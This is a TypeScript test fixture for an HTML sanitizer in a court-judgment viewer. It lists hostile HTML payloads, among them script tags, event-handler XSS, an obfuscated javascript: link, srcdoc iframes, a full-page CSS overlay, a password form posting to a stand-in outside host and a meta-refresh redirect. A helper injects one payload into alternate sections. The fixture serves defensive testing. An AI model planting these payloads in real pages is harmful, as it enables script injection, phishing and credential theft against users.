import type { Adjudication } from './types';

/** What is put behind the first paragraph of a part; none of it may run, load, cover or lead away. */
export const HOSTILE_HTML: Readonly<Record<string, string>> = {
  script: '<script>window.__hostile = "script"</script>',
  handler: '<img src="x" onerror="window.__hostile=\'handler\'" alt="附图">',
  link: '<p>参见<a href="java&#10;script:window.__hostile=1" target="_top">判决原文</a>。</p>',
  frame: '<iframe srcdoc="<script>parent.__hostile=1</script>"></iframe><object data="x"></object>',
  vector:
    '<svg onload="window.__hostile=\'svg\'"><a xlink:href="javascript:1"><text>图</text></a></svg>',
  style:
    '<style>body{display:none}</style><div style="position:fixed;inset:0;z-index:9999;background:url(http://outside.example/x)">说明</div>',
  form: '<form action="http://outside.example/"><input name="password" autofocus><button>确认</button></form>',
  page: '<base href="http://outside.example/"><meta http-equiv="refresh" content="0;url=http://outside.example/">',
  nesting: '<table><p>未闭合<b><i><td>表格</p><svg><style><img src=x onerror=window.__hostile=1>',
  names:
    '<p id="p1" name="location">同名<form id="attributes"><input name="attributes"></form></p>',
};

/** A document with one of those in every second part; what may be read of it stays. */
export function madeHostile(document: Adjudication, html: string): Adjudication {
  return {
    ...document,
    sections: document.sections.map((section, index) =>
      index % 2 === 1 ? { ...section, html: section.html.replace('</p>', `</p>${html}`) } : section,
    ),
  };
}
